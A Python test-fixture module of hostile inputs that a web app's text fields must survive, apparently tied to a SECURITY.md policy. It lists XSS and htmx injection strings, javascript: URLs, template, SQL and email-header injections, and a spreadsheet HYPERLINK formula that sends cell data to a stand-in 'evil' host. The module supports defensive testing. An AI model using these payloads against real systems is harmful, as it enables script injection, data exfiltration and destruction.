"""The hostile payloads every text field must survive (SECURITY.md, "Payloads every text field must survive").

Tests put these in every text field, through the forms and straight into the database, then crawl
the pages: no 500, nothing executable rendered.
"""

from __future__ import annotations

NUL_PAYLOAD = "abc\x00def"  # forms refuse it with a message; PostgreSQL cannot store it at all
BIG_PAYLOAD = "A" * 600_000  # a 600 kB value
RTL_OVERRIDE = "\u202e"  # right-to-left override
EMOJI = "👩🏽‍⚕️"  # woman health worker, medium skin tone: a ZWJ sequence with a variation selector
TEMPLATE_PAYLOADS = ("{{7*7}}", "{{config}}")
DANGEROUS_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '<div hx-get="/admin" hx-trigger="load" hx-target="body">',
    '<form hx-post="/referrals/1/accept" hx-trigger="load">',
    '<div data-hx-post="/x" data-hx-trigger="load">',
    '<button hx-on:click="alert(1)">',
    """<meta name="htmx-config" content='{"allowEval":true}'>""",
    *DANGEROUS_URLS,
    "<svg><script>alert(1)</script></svg>",
    *TEMPLATE_PAYLOADS,
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+SUM(1+1)",
    "@SUM(1)",
    "-2+3",
    "' OR '1'='1",
    "1; DROP TABLE referral;--",
    "%",
    "_",
    RTL_OVERRIDE,
    NUL_PAYLOAD,
    "a@b.org\r\nBcc: x@evil.example",
    BIG_PAYLOAD,
    EMOJI,
]

NUL_FREE_PAYLOADS: list[str] = [payload for payload in PAYLOADS if "\x00" not in payload]


def payload_id(payload: str) -> str:
    """A short, printable pytest id for a payload."""
    if payload == BIG_PAYLOAD:
        return "600kB"
    if payload == NUL_PAYLOAD:
        return "NUL"
    if payload == RTL_OVERRIDE:
        return "RTL-override"
    if payload == EMOJI:
        return "emoji"
    printable = "".join(ch if ch.isprintable() and ch.isascii() else "?" for ch in payload)
    return printable[:40]


def storable(payload: str, dialect: str) -> str:
    """The payload as this database can hold it: PostgreSQL text cannot contain NUL."""
    return payload.replace("\x00", "") if dialect == "postgresql" else payload


def fit(payload: str, length: int | None) -> str:
    """The payload cut to a column's length (what a VARCHAR(n) can store), whole when unbounded."""
    return payload if length is None else payload[:length]
